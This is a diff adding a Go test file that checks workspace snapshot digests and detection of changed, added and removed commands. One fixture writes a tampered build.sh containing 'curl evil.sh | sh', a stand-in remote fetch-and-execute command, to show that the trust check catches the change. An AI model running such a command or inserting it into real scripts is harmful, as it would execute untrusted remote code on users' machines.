@@ -0,0 +1,72 @@
+package backend
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func loadTestWorkspace(t *testing.T, workspaceDir string) *PackageSource {
+	t.Helper()
+	src := DiscoverWorkspaceSources(workspaceDir, testAppName)
+	assert.Len(t, src, 1)
+	_, err := NewDefaultBackend(t.TempDir(), src, makeDropinSource(t, t.TempDir(), "dropin-pkg", execCmd("other")), makeDefaultSource(t, t.TempDir(), "default-pkg", execCmd("lint")))
+	assert.Nil(t, err)
+	return src[0]
+}
+
+func writeTestWorkspacePackage(t *testing.T, workspaceDir string, cmds string) {
+	t.Helper()
+	pkgDir := createTestPackageDir(t, workspaceDir, "tools", cmds)
+	assert.Nil(t, os.WriteFile(filepath.Join(pkgDir, "build.sh"), []byte("#!/bin/sh\necho build\n"), 0755))
+	assert.Nil(t, os.WriteFile(filepath.Join(workspaceDir, WorkspacePackagesFileName(testAppName)), []byte("tools\n"), 0644))
+}
+
+const buildCmd = `{"name": "build", "type": "executable", "executable": "{{.PackageDir}}/build.sh"}`
+
+func TestWorkspaceSnapshot(t *testing.T) {
+	workspaceDir := t.TempDir()
+	writeTestWorkspacePackage(t, workspaceDir, buildCmd+","+execCmd("lint"))
+
+	trusted, err := NewWorkspaceSnapshot(loadTestWorkspace(t, workspaceDir), testAppName)
+	assert.Nil(t, err)
+	assert.Len(t, trusted.Commands, 2)
+
+	// the snapshot is stable
+	snapshot, err := NewWorkspaceSnapshot(loadTestWorkspace(t, workspaceDir), testAppName)
+	assert.Nil(t, err)
+	assert.Equal(t, trusted.Digest, snapshot.Digest)
+	assert.True(t, snapshot.Changes(trusted).IsEmpty())
+
+	// a changed executable
+	assert.Nil(t, os.WriteFile(filepath.Join(workspaceDir, "tools", "build.sh"), []byte("#!/bin/sh\ncurl evil.sh | sh\n"), 0755))
+	snapshot, err = NewWorkspaceSnapshot(loadTestWorkspace(t, workspaceDir), testAppName)
+	assert.Nil(t, err)
+	assert.NotEqual(t, trusted.Digest, snapshot.Digest)
+	assert.Equal(t, WorkspaceChanges{Added: []string{}, Changed: []string{"build"}, Removed: []string{}}, snapshot.Changes(trusted))
+
+	// added and removed commands in the manifest
+	createTestPackageDir(t, workspaceDir, "tools", buildCmd+","+groupCmd("infra")+","+execCmdInGroup("deploy", "infra"))
+	snapshot, err = NewWorkspaceSnapshot(loadTestWorkspace(t, workspaceDir), testAppName)
+	assert.Nil(t, err)
+	changes := snapshot.Changes(trusted)
+	assert.Equal(t, []string{"infra", "infra deploy"}, changes.Added)
+	assert.Equal(t, []string{"lint"}, changes.Removed)
+}
+
+func TestWorkspaceSnapshotPackagesFile(t *testing.T) {
+	workspaceDir := t.TempDir()
+	writeTestWorkspacePackage(t, workspaceDir, execCmd("lint"))
+
+	trusted, err := NewWorkspaceSnapshot(loadTestWorkspace(t, workspaceDir), testAppName)
+	assert.Nil(t, err)
+
+	// a change of the packages file changes the digest, even without new command
+	assert.Nil(t, os.WriteFile(filepath.Join(workspaceDir, WorkspacePackagesFileName(testAppName)), []byte("tools\n**\n"), 0644))
+	snapshot, err := NewWorkspaceSnapshot(loadTestWorkspace(t, workspaceDir), testAppName)
+	assert.Nil(t, err)
+	assert.NotEqual(t, trusted.Digest, snapshot.Digest)
+	assert.True(t, snapshot.Changes(trusted).IsEmpty())
+}